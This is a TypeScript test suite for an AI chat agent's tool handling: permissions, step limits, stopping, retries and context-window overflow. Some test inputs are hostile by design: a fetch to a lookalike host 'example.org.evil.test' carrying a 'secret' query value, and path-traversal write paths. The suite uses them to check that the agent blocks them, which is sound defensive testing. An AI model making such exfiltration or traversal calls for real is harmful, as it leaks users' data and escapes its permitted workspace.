import { describe, expect, it } from 'vitest'
import { strategies } from '../../context/strategies/index.ts'
import type { StrategyName } from '../../context/strategy.ts'
import { AgentError } from '../../errors.ts'
import { utf8Bytes } from '../../text/bytes.ts'
import { testAgent, logSummary, sendAndSettle, type TestAgent } from '../agent.fixture.ts'

const call = (name: string, args: Record<string, unknown> | string = {}, id?: string) => ({
  calls: [{ name, arguments: args, ...(id ? { id } : {}) }],
})

async function opened(
  script: Parameters<typeof testAgent>[0],
  options?: Parameters<typeof testAgent>[1],
): Promise<TestAgent & { id: string }> {
  const b = testAgent(script, options)
  const { id } = await b.agent.create('A chat')
  return { ...b, id }
}

describe('tools in a turn', () => {
  it('answers arguments that are no JSON with the parser’s message, and goes on', async () => {
    const b = await opened([call('get_time', '{"a":'), 'Sorry.'])
    await sendAndSettle(b, b.id, 'Hi')
    const result = (await b.log(b.id)).find(entry => entry.type === 'result')
    expect(result).toMatchObject({ isError: true })
    expect(result?.type === 'result' && result.text).toMatch(/not valid JSON: .*JSON/)
  })

  it('answers an unknown tool with the names that there are', async () => {
    const b = await opened([call('run_shell'), 'Sorry.'])
    await sendAndSettle(b, b.id, 'Hi')
    const result = (await b.log(b.id)).find(entry => entry.type === 'result')
    expect(result?.type === 'result' && result.text).toContain('read_file, list_files, search_files, memory_search')
  })

  it('does not tell the model of a part of the app that an update removed: the person reloads, and the call runs then', async () => {
    let gone = true
    const readPage = async (url: string) => {
      if (gone)
        throw new TypeError(
          'Failed to fetch dynamically imported module: http://localhost/assets/html-to-markdown-1.js',
        )
      return { title: 'T', markdown: 'text', url }
    }
    const b = await opened([call('fetch_url', { url: 'https://example.org/' }, 'c1'), 'Read.'], { readPage })
    await b.store.updateSession(b.id, { allowed: ['fetch_url example.org'] })
    expect(await sendAndSettle(b, b.id, 'Read it')).toEqual({ state: 'interrupted' })
    expect(b.events.findLast(event => event.type === 'failed')).toMatchObject({ code: 'new_version' })
    gone = false
    b.events.length = 0
    await b.agent.resume(b.id)
    expect(await b.settled(b.id)).toEqual({ state: 'idle' })
    expect(logSummary(await b.log(b.id)).at(-1)).toBe('assistant: Read.')
  })

  it.each(
    (Object.keys(strategies) as StrategyName[]).flatMap(strategy =>
      [75_000, 300_000].map(bytes => ({ strategy, bytes })),
    ),
  )(
    'keeps a page of $bytes bytes whole under $strategy, shows what a tool may give, and says where the rest is',
    async ({ strategy, bytes }) => {
      const markdown = Array.from({ length: bytes / 50 }, (_, n) => `line ${n}`.padEnd(49, '.')).join('\n')
      const path = (content = ''): string => /tool_result\/\w+\.txt/.exec(content)?.[0] ?? 'nowhere'
      const b = await opened(
        (request, index) =>
          index === 0
            ? call('fetch_url', { url: 'https://example.org/' })
            : index === 1
              ? call('read_file', { path: path(request.messages.at(-1)?.content), start_line: 1_400, end_line: 1_400 })
              : 'Read.',
        { readPage: async url => ({ title: 'T', markdown, url }) },
      )
      await b.agent.choose(b.id, { strategy })
      await b.store.updateSession(b.id, { allowed: ['fetch_url example.org'] })
      await sendAndSettle(b, b.id, 'Read it')
      const [page, read] = b.model.requests
        .at(-1)!
        .messages.filter(({ role }) => role === 'tool')
        .map(({ content }) => content)
      expect(utf8Bytes(page!)).toBeLessThanOrEqual(50_000 + 300)
      expect(page).toMatch(/bytes omitted from line \d+ .*Read on with read_file: path="tool_result\//)
      expect(read).toContain('line 1395') // four lines stand in front of the page
      const result = (await b.log(b.id)).find(entry => entry.type === 'result')!
      expect((await b.agent.readPath(`tool_result/${result.id}.txt`, { startLine: bytes / 50 + 4 })).text).toContain(
        `line ${bytes / 50 - 1}`,
      )
    },
  )

  it('makes an error result of a tool that throws', async () => {
    const b = await opened([call('read_file', { path: 'nowhere.txt' }), 'Sorry.'])
    await sendAndSettle(b, b.id, 'Hi')
    expect((await b.log(b.id)).find(entry => entry.type === 'result')).toMatchObject({ isError: true })
  })

  it('does not run the third identical call with equal results, nor the fourth', async () => {
    const same = call('list_files')
    const b = await opened([same, same, same, same, 'Enough.'])
    await sendAndSettle(b, b.id, 'Hi')
    const log = await b.log(b.id)
    expect(log.filter(entry => entry.type === 'result').map(entry => entry.type === 'result' && entry.isError)).toEqual(
      [false, false, true, true],
    )
    expect(log.filter(entry => entry.type === 'note' && entry.code === 'loop_broken')).toHaveLength(2)
  })

  it('lets clocks be asked again and again', async () => {
    const same = call('get_time')
    const b = await opened([same, same, same, same, 'Enough.'])
    await sendAndSettle(b, b.id, 'Hi')
    expect((await b.log(b.id)).every(entry => entry.type !== 'result' || !entry.isError)).toBe(true)
  })

  it('takes a write between identical calls as a new beginning', async () => {
    const read = call('list_files')
    const write = call('write_file', { path: 'workspace/a.md', content: 'x' })
    const b = await opened([read, read, write, read, read, 'Done.'])
    await b.store.updateSession(b.id, { allowed: ['write_file'] })
    await sendAndSettle(b, b.id, 'Hi')
    expect((await b.log(b.id)).every(entry => entry.type !== 'result' || !entry.isError)).toBe(true)
  })

  it('asks for a final answer without tools at the step limit, and does not run what is called all the same', async () => {
    const b = await opened((_request, index) => ({ ...call('get_time'), text: `step ${index}` }))
    await b.agent.setConfig(b.id, { agent_max_steps: 3 })
    expect(await sendAndSettle(b, b.id, 'Hi')).toEqual({ state: 'idle' })
    expect(b.model.requests.map(request => request.toolChoice)).toEqual([undefined, undefined, undefined, 'none'])
    const log = await b.log(b.id)
    expect(log.some(entry => entry.type === 'note' && entry.code === 'step_limit')).toBe(true)
    expect(log.at(-1)).toMatchObject({ type: 'assistant', text: 'step 3', calls: [] })
  })
})

describe('the step limit', () => {
  const times = (count: number, text = '') => ({
    calls: Array.from({ length: count }, () => ({ name: 'get_time', arguments: {} })),
    text,
  })

  it('counts answers of the model, not their calls', async () => {
    const b = await opened([times(3), times(2), 'Noon.'])
    await b.agent.setConfig(b.id, { agent_max_steps: 2 })
    await sendAndSettle(b, b.id, 'Hi')
    expect((await b.log(b.id)).filter(entry => entry.type === 'result')).toHaveLength(5)
    expect(b.model.requests.map(request => request.toolChoice)).toEqual([undefined, undefined, 'none'])
  })

  it('begins anew with each message', async () => {
    const b = await opened([times(1), 'Noon.', times(1), 'Later.'])
    await b.agent.setConfig(b.id, { agent_max_steps: 2 })
    await sendAndSettle(b, b.id, 'Hi')
    await sendAndSettle(b, b.id, 'And now?')
    expect((await b.log(b.id)).map(entry => entry.type)).toEqual([
      'user',
      'assistant',
      'result',
      'assistant',
      'user',
      'assistant',
      'result',
      'assistant',
    ])
    expect(b.model.requests.every(request => request.toolChoice === undefined)).toBe(true)
  })
})

describe('permission', () => {
  const write = call('write_file', { path: 'workspace/a.md', content: 'hello' }, 'c1')

  it('asks, waits, and goes on with the answer', async () => {
    const b = await opened([write, 'Written.'])
    expect(await sendAndSettle(b, b.id, 'Write it')).toMatchObject({
      state: 'asking',
      question: { tool: 'write_file', plan: { does: 'write', path: 'workspace/a.md', content: 'hello' } },
    })
    expect(await b.store.document('workspace/a.md')).toBeUndefined()
    b.events.length = 0
    await b.agent.resolvePermission(b.id, 'c1', 'allow')
    expect(await b.settled(b.id)).toEqual({ state: 'idle' })
    expect((await b.store.document('workspace/a.md'))?.text).toBe('hello')
  })

  it('waits over a reload, and the question is derived from the log', async () => {
    const b = await opened([write])
    await sendAndSettle(b, b.id, 'Write it')
    const again = testAgent(['Written.'], { store: b.store, prefix: 'n' })
    const { status } = await again.agent.open(b.id)
    expect(status).toMatchObject({ state: 'asking', question: { tool: 'write_file', call: { id: 'c1' } } })
    expect(await again.settled(b.id)).toMatchObject({ state: 'asking' })
    again.events.length = 0
    await again.agent.resolvePermission(b.id, 'c1', 'allow')
    await again.settled(b.id)
    expect((await b.store.document('workspace/a.md'))?.text).toBe('hello')
    expect(logSummary(await b.log(b.id)).at(-1)).toBe('assistant: Written.')
  })

  it('tells the model of a no, and does nothing', async () => {
    const b = await opened([write, 'All right.'])
    await sendAndSettle(b, b.id, 'Write it')
    b.events.length = 0
    await b.agent.resolvePermission(b.id, 'c1', 'deny')
    await b.settled(b.id)
    expect(logSummary(await b.log(b.id)).slice(2)).toEqual([
      'error write_file: The user denied this call. Do not try it again; find another way or ask.',
      'assistant: All right.',
    ])
    expect(await b.store.document('workspace/a.md')).toBeUndefined()
  })

  it('does not ask again where it was allowed for the chat, and can be taken back', async () => {
    const b = await opened([
      write,
      call('write_file', { path: 'workspace/b.md', content: 'b' }, 'c1'),
      'Done.',
      call('write_file', { path: 'workspace/c.md', content: 'c' }, 'c9'),
    ])
    await sendAndSettle(b, b.id, 'Write both')
    b.events.length = 0
    await b.agent.resolvePermission(b.id, 'c1', 'always here')
    expect(await b.settled(b.id)).toEqual({ state: 'idle' })
    expect(await b.agent.permissions()).toEqual([{ session: b.id, title: 'A chat', grant: 'write_file' }])
    await b.agent.revoke(b.id, 'write_file')
    expect(await sendAndSettle(b, b.id, 'And this')).toMatchObject({ state: 'asking' })
  })

  it('for good is for one host: a model cannot carry what it read to another one', async () => {
    const read = (url: string, id: string) => call('fetch_url', { url }, id)
    const b = await opened([
      read('https://example.org/', 'c1'),
      read('https://EXAMPLE.org/more', 'c2'),
      read('https://example.org.evil.test/?told=secret', 'c3'),
      'Done.',
    ])
    await sendAndSettle(b, b.id, 'Read it')
    b.events.length = 0
    await b.agent.resolvePermission(b.id, 'c1', 'always here')
    expect(await b.settled(b.id)).toMatchObject({
      state: 'asking',
      question: { call: { id: 'c3' }, plan: { address: { host: 'example.org.evil.test' } } },
    })
    expect(await b.agent.permissions()).toEqual([{ session: b.id, title: 'A chat', grant: 'fetch_url example.org' }])
    b.events.length = 0
    await b.agent.resolvePermission(b.id, 'c3', 'deny')
    await b.settled(b.id)
    await b.agent.revoke(b.id, 'fetch_url example.org')
    expect(await b.agent.permissions()).toEqual([])
  })

  it('is good for one call only, although its id comes again in the next step', async () => {
    const b = await opened([write, call('write_file', { path: 'workspace/b.md', content: 'b' }, 'c1')])
    await sendAndSettle(b, b.id, 'Write')
    b.events.length = 0
    await b.agent.resolvePermission(b.id, 'c1', 'allow')
    expect(await b.settled(b.id)).toMatchObject({
      state: 'asking',
      question: { plan: { path: 'workspace/b.md', content: 'b' } },
    })
  })

  it('is refused for a call that was answered already', async () => {
    const b = await opened([write, 'Fine.'])
    await sendAndSettle(b, b.id, 'Write')
    await b.agent.resolvePermission(b.id, 'c1', 'deny')
    await expect(b.agent.resolvePermission(b.id, 'c1', 'allow')).rejects.toThrow()
  })

  it('ends with a new message: the open call is closed, and nothing is written', async () => {
    const b = await opened([write, 'Something else, then.'])
    await sendAndSettle(b, b.id, 'Write it')
    await sendAndSettle(b, b.id, 'No, tell me a joke')
    expect(logSummary(await b.log(b.id)).slice(1)).toEqual([
      'assistant:  [write_file]',
      'error write_file: Not run: the user sent a new message instead.',
      'user: No, tell me a joke',
      'assistant: Something else, then.',
    ])
  })

  it('never lets a path leave the workspace', async () => {
    const b = await opened([
      call('write_file', { path: '../x', content: '' }),
      call('write_file', { path: 'workspace/../MEMORY.md', content: '' }),
      call('write_file', { path: 'MEMORY.md', content: '' }),
      'No.',
    ])
    await b.store.updateSession(b.id, { allowed: ['write_file'] })
    await sendAndSettle(b, b.id, 'Write')
    expect((await b.log(b.id)).flatMap(entry => (entry.type === 'result' ? [entry.isError] : []))).toEqual([
      true,
      true,
      true,
    ])
    expect(await b.store.documents()).toEqual([])
  })
})

describe('stop', () => {
  it('keeps the part that had come, and marks it', async () => {
    const b = await opened([{ text: ['One ', 'two ', 'three ', 'four '], delayMs: 5 }])
    await b.agent.send(b.id, 'Count')
    while (!b.events.some(event => event.type === 'delta'))
      await new Promise(resolve => {
        setTimeout(resolve, 1)
      })
    await b.agent.stop(b.id)
    expect(await b.settled(b.id)).toEqual({ state: 'idle' })
    const log = await b.log(b.id)
    expect(log.map(entry => entry.type)).toEqual(['user', 'assistant', 'note'])
    expect(log[1]).toMatchObject({ stop: 'stopped' })
    expect(log[1]?.type === 'assistant' && log[1].text).toMatch(/^One/)
    expect(await b.store.partial(b.id)).toBeUndefined()
  })

  it('gives open calls a result', async () => {
    const slow = testAgent(
      [
        {
          calls: [
            { id: 'a', name: 'fetch_url', arguments: { url: 'https://example.org/' } },
            { id: 'b', name: 'get_time', arguments: {} },
          ],
        },
      ],
      {
        readPage: (_url, signal) =>
          new Promise((_resolve, reject) => {
            signal.addEventListener(
              'abort',
              () => {
                reject(new AgentError('stopped', 'stopped'))
              },
              { once: true },
            )
          }),
      },
    )
    const { id } = await slow.agent.create()
    await slow.store.updateSession(id, { allowed: ['fetch_url example.org'] })
    await slow.agent.send(id, 'Read it')
    while (!slow.events.some(event => event.type === 'status' && event.status.state === 'running'))
      await new Promise(resolve => {
        setTimeout(resolve, 1)
      })
    await slow.agent.stop(id)
    expect(logSummary(await slow.log(id)).slice(2)).toEqual([
      'error fetch_url: Stopped by the user before it was done.',
      'error get_time: Stopped by the user before it was done.',
      'note stopped',
    ])
  })

  it('is no end: the person can go on', async () => {
    const b = await opened([{ text: ['One ', 'two '], delayMs: 5 }, 'three.'])
    await b.agent.send(b.id, 'Count')
    while (!b.events.some(event => event.type === 'delta'))
      await new Promise(resolve => {
        setTimeout(resolve, 1)
      })
    await b.agent.stop(b.id)
    b.events.length = 0
    await b.agent.resume(b.id)
    await b.settled(b.id)
    expect(b.model.requests[1]?.messages.at(-1)?.content).toContain('Go on exactly where it stopped')
    expect(logSummary(await b.log(b.id)).at(-1)).toBe('assistant: three.')
  })
})

describe('failures of the model', () => {
  const fails = (
    code: 'network' | 'model_server' | 'model_rate_limited' | 'model_auth',
    data?: Record<string, unknown>,
    after?: number,
  ) => ({
    text: ['part one ', 'part two'],
    fail: { code, message: 'It failed.', ...(data ? { data } : {}), ...(after === undefined ? {} : { after }) },
  })

  it('are tried again three times with growing waits, visibly', async () => {
    const b = await opened([fails('network'), fails('model_server'), fails('network'), 'Here I am.'])
    expect(await sendAndSettle(b, b.id, 'Hi')).toEqual({ state: 'idle' })
    const [first, second, third] = b.world.slept.filter(ms => ms >= 1000)
    expect([
      first! >= 1000 && first! <= 1200,
      second! >= 4000 && second! <= 4800,
      third! >= 10_000 && third! <= 12_000,
    ]).toEqual([true, true, true])
    expect(b.events.filter(event => event.type === 'status' && event.status.state === 'retrying')).toHaveLength(3)
    expect(logSummary(await b.log(b.id))).toEqual(['user: Hi', 'assistant: Here I am.'])
  })

  it('end in a note after the fourth attempt, and the turn can be retried', async () => {
    const b = await opened([fails('network'), fails('network'), fails('network'), fails('network'), 'Late, but here.'])
    expect(await sendAndSettle(b, b.id, 'Hi')).toEqual({ state: 'interrupted' })
    expect(logSummary(await b.log(b.id))).toEqual(['user: Hi', 'note network'])
    expect(b.events.find(event => event.type === 'failed')).toMatchObject({ code: 'network' })
    b.events.length = 0
    await b.agent.resume(b.id)
    await b.settled(b.id)
    expect(logSummary(await b.log(b.id)).at(-1)).toBe('assistant: Late, but here.')
  })

  it('are waited for as long as the server says, and above a minute they become a note', async () => {
    const b = await opened([
      fails('model_rate_limited', { retryAfterMs: 7000 }),
      fails('model_rate_limited', { retryAfterMs: 61_000 }),
    ])
    expect(await sendAndSettle(b, b.id, 'Hi')).toEqual({ state: 'interrupted' })
    expect(b.world.slept.some(ms => ms >= 7000 && ms <= 8400)).toBe(true)
    const note = (await b.log(b.id)).at(-1)
    expect(note).toMatchObject({ type: 'note', code: 'retry' })
  })

  it('are not tried again for other refusals', async () => {
    const b = await opened([fails('model_auth')])
    expect(await sendAndSettle(b, b.id, 'Hi')).toEqual({ state: 'interrupted' })
    expect(b.model.requests).toHaveLength(1)
  })

  it('after the first part keep what came, and it is continued', async () => {
    const b = await opened([fails('network', undefined, 1), 'and the rest.'])
    expect(await sendAndSettle(b, b.id, 'Hi')).toEqual({ state: 'interrupted' })
    expect(logSummary(await b.log(b.id))).toEqual(['user: Hi', 'assistant (failed): part one ', 'note network'])
    b.events.length = 0
    await b.agent.resume(b.id)
    expect(await b.settled(b.id)).toEqual({ state: 'idle' })
    expect(b.model.requests).toHaveLength(2)
  })

  it('can be stopped while they are waited for', async () => {
    const b = await opened([fails('model_rate_limited', { retryAfterMs: 50_000 }), 'Never.'])
    await b.agent.send(b.id, 'Hi')
    while (!b.events.some(event => event.type === 'status' && event.status.state === 'retrying'))
      await new Promise(resolve => {
        setTimeout(resolve, 1)
      })
    await b.agent.stop(b.id)
    expect(logSummary(await b.log(b.id))).toEqual(['user: Hi', 'note stopped'])
    expect(b.model.requests).toHaveLength(1)
  })

  it('an empty answer is asked for once more, then it is said', async () => {
    const once = await opened(['', 'Now.'])
    await sendAndSettle(once, once.id, 'Hi')
    expect(logSummary(await once.log(once.id))).toEqual(['user: Hi', 'assistant: Now.'])
    const twice = await opened(['', ' '])
    expect(await sendAndSettle(twice, twice.id, 'Hi')).toEqual({ state: 'interrupted' })
    expect(logSummary(await twice.log(twice.id))).toEqual(['user: Hi', 'note model_empty'])
  })

  it('a model that is not there is said, and the question is kept', async () => {
    const b = await opened(['x'])
    await b.agent.choose(b.id, { model: 'gone' })
    expect(await sendAndSettle(b, b.id, 'Hi')).toEqual({ state: 'interrupted' })
    expect(logSummary(await b.log(b.id))).toEqual(['user: Hi', 'note model_unavailable'])
  })
})

describe('a request that does not fit', () => {
  it('learns the window from the provider’s numbers, makes it fit, and loses nothing', async () => {
    const long = 'The quick brown fox jumps over the lazy dog. '.repeat(900)
    const b = await opened(request => {
      const size = Math.ceil(JSON.stringify(request.messages).length / 4)
      return size > 7000 ? { overflow: { limit: 8000, actual: size } } : `ok ${size}`
    })
    for (let n = 0; n < 3; n++) await sendAndSettle(b, b.id, `${n}: ${long}`)
    const log = await b.log(b.id)
    expect(log.filter(entry => entry.type === 'user')).toHaveLength(3)
    expect(log.some(entry => entry.type === 'note' && entry.code === 'window_learnt')).toBe(true)
    expect(log.at(-1)).toMatchObject({ type: 'assistant' })
    expect((await b.agent.context(b.id)).window).toBe(8000)
  })

  it('is noticed where the server fills its window and ends the answer before it began, and by nothing less', async () => {
    const long = 'The quick brown fox jumps over the lazy dog. '.repeat(100)
    const b = await opened(
      request => (request.messages.length > 10 ? { stop: 'length', usage: { input: 131_000, output: 0 } } : 'ok'),
      { model: { local: false } },
    )
    for (let n = 0; n < 7; n++) expect(await sendAndSettle(b, b.id, `${n}: ${long}`)).toEqual({ state: 'idle' })
    const log = await b.log(b.id)
    expect(log.filter(entry => entry.type === 'note').map(entry => entry.code)).toContain('overflow_rung')
    expect(log.filter(entry => entry.type === 'user')).toHaveLength(7)
    const own = await opened([{ stop: 'length', usage: { input: 2000, output: 8_192 } }])
    await sendAndSettle(own, own.id, 'Hi')
    expect(logSummary(await own.log(own.id))).toEqual(['user: Hi', 'assistant (length): ', 'note thought_limit'])
  })

  it('is noticed where the server says itself that it left something out, whatever its numbers are', async () => {
    const b = await opened([{ text: 'Hi.', truncated: true, usage: { input: 900 } }])
    await sendAndSettle(b, b.id, 'Hi')
    expect((await b.log(b.id)).at(-1)).toMatchObject({
      type: 'note',
      code: 'suspect_truncation',
      tokens: 900,
      text: expect.stringMatching(/window was full/) as string,
    })
    expect((await b.agent.context(b.id)).factor).toBe(1) // what it read is not what was sent
    const half = await opened(request =>
      request.messages.length < 2 ? { text: 'half', stop: 'length', truncated: true } : 'rest',
    )
    await sendAndSettle(half, half.id, 'Hi')
    expect(logSummary(await half.log(half.id))).toContain('assistant: rest')
  })

  it('is noticed whatever the empty answer says about its end', async () => {
    const long = 'The quick brown fox jumps over the lazy dog. '.repeat(100)
    const b = await opened(
      request =>
        request.messages.length > 10 ? { stop: 'stop', usage: { input: 100_000, cacheRead: 31_000, output: 0 } } : 'ok',
      { model: { local: false } },
    )
    for (let n = 0; n < 7; n++) expect(await sendAndSettle(b, b.id, `${n}: ${long}`)).toEqual({ state: 'idle' })
    expect((await b.log(b.id)).filter(entry => entry.type === 'note').map(entry => entry.code)).toContain(
      'overflow_rung',
    )
  })

  it('that ended an answer in its middle is made smaller, and the answer goes on by itself, once', async () => {
    const long = 'The quick brown fox jumps over the lazy dog. '.repeat(100)
    const half = { text: 'half', stop: 'length', usage: { input: 131_000, output: 50 } } as const
    const b = await opened(
      request =>
        request.messages.filter(({ content }) => content.includes(long)).length > 5
          ? half
          : { text: `rest ${request.messages.length}` },
      { model: { local: false } },
    )
    for (let n = 0; n < 6; n++) await sendAndSettle(b, b.id, `${n}: ${long}`)
    const log = logSummary(await b.log(b.id))
    expect(log.filter(line => line.startsWith('assistant (length)'))).toHaveLength(1)
    expect(log.at(-1)).toMatch(/^assistant: rest \d+$/)
    expect(log).toContain('cut overflow')
    const always = await opened(() => ({ text: 'half', stop: 'length', usage: { input: 131_000, output: 50 } }), {
      model: { local: false },
    })
    expect(await sendAndSettle(always, always.id, 'Hi')).toEqual({ state: 'idle' })
    expect(always.model.requests.length).toBeLessThanOrEqual(2)
  })

  it('fails visibly when nothing helps, with the parts and their sizes', async () => {
    const b = await opened([
      { overflow: true },
      { overflow: true },
      { overflow: true },
      { overflow: true },
      { overflow: true },
    ])
    expect(await sendAndSettle(b, b.id, 'Hi')).toEqual({ state: 'interrupted' })
    const note = (await b.log(b.id)).at(-1)
    expect(note).toMatchObject({ type: 'note', code: 'model_overflow' })
    expect(note?.type === 'note' && note.text).toMatch(/system prompt \d+, tools \d+/)
  })

  it('is not sent at all when our own count says so', async () => {
    const b = await opened(['Short.', 'Fits now.'], { model: { contextWindow: 6000 } })
    await sendAndSettle(b, b.id, 'word '.repeat(6000))
    for (const request of b.model.requests)
      expect(Math.ceil(JSON.stringify(request.messages).length / 4)).toBeLessThan(6000)
    expect((await b.log(b.id)).find(entry => entry.type === 'user')).toMatchObject({ text: 'word '.repeat(6000) })
  })
})

it('answers that are held back on their way are told of once in a chat', async () => {
  const b = await opened([{ text: 'One.', heldBack: true }, { text: 'Two.', heldBack: true }, 'Three.'])
  for (const question of ['Hi', 'And?', 'So?']) await sendAndSettle(b, b.id, question)
  const notes = (await b.log(b.id)).filter(entry => entry.type === 'note' && entry.code === 'held_back')
  expect(notes).toMatchObject([{ data: { model: 'scripted' } }])
})

describe('what the usage teaches', () => {
  it('is kept per model and used', async () => {
    const b = await opened([{ text: 'Hi.', usage: { input: 3000 } }])
    await sendAndSettle(b, b.id, 'Hi')
    const { factor } = await b.agent.context(b.id)
    expect(factor).toBeGreaterThan(1)
    expect(await b.store.setting('learnt:scripted')).toMatchObject({ factors: { 'bytes/4': factor } })
  })

  it('a report that is far too small is a suspicion, not a lesson', async () => {
    const b = await opened([{ text: 'Hi.', usage: { input: 20 } }])
    await sendAndSettle(b, b.id, 'Hi')
    expect((await b.log(b.id)).at(-1)).toMatchObject({
      type: 'note',
      code: 'suspect_truncation',
      data: { reported: 20 },
    })
    expect((await b.agent.context(b.id)).factor).toBe(1)
  })

  it('a prompt above the window that was taken without a word is said, and the next one is made to fit', async () => {
    const long = 'The quick brown fox jumps over the lazy dog. '.repeat(100)
    // three times what is counted
    const usage = (size: number): { input: number; cacheRead: number } => ({ input: size, cacheRead: 2 * size })
    const b = await opened(
      request => ({ text: 'ok', usage: usage(Math.ceil(JSON.stringify(request.messages).length / 4)) }),
      { model: { local: false, contextWindow: 16_384 } },
    )
    for (let n = 0; n < 12; n++) expect(await sendAndSettle(b, b.id, `${n}: ${long}`)).toEqual({ state: 'idle' })
    const log = await b.log(b.id)
    const reads = b.model.requests.map(request => 3 * Math.ceil(JSON.stringify(request.messages).length / 4))
    const over = reads.findIndex(tokens => tokens > 16_384)
    if (over >= 0) {
      expect(log.filter(entry => entry.type === 'note' && entry.code === 'suspect_truncation').length).toBeGreaterThan(
        0,
      )
      expect(reads[over + 1]).toBeLessThanOrEqual(16_384)
    }
    // A count that is far off, learnt from one answer: the window of another server was smaller than what it took.
    const small = await opened([{ text: 'one', usage: { input: 9_000 } }, 'two', 'three'], {
      model: { local: false, contextWindow: 8_192 },
    })
    await sendAndSettle(small, small.id, long)
    const note = (await small.log(small.id)).find(entry => entry.type === 'note')
    expect(note).toMatchObject({ code: 'suspect_truncation', tokens: 9_000, data: { reported: 9_000, window: 8_192 } })
    await sendAndSettle(small, small.id, 'And now?')
    expect(
      (await small.log(small.id)).some(
        entry => (entry.type === 'note' && entry.code === 'overflow_rung') || entry.type === 'cut',
      ),
    ).toBe(true)
  })

  it('is suspected once a turn, not at every call', async () => {
    const call = { calls: [{ name: 'get_time', arguments: {} }], usage: { input: 20 } }
    const b = await opened([call, call, { text: 'Late.', usage: { input: 20 } }])
    await sendAndSettle(b, b.id, 'What time is it?')
    expect(
      (await b.log(b.id)).filter(entry => entry.type === 'note' && entry.code === 'suspect_truncation'),
    ).toHaveLength(1)
  })
})

describe('a small window', () => {
  it('gets a short prompt and fewer tools, and says so once', async () => {
    const b = await opened(['Hi.', 'Again.'], { model: { contextWindow: 2048 } })
    await sendAndSettle(b, b.id, 'Hi')
    await sendAndSettle(b, b.id, 'Hi again')
    const notes = (await b.log(b.id)).filter(entry => entry.type === 'note' && entry.code === 'small_window')
    expect(notes).toHaveLength(1)
    const { system, tools } = b.model.requests[0]!
    expect((system.length + JSON.stringify(tools).length) / 4).toBeLessThan(2048 / 4)
  })
})
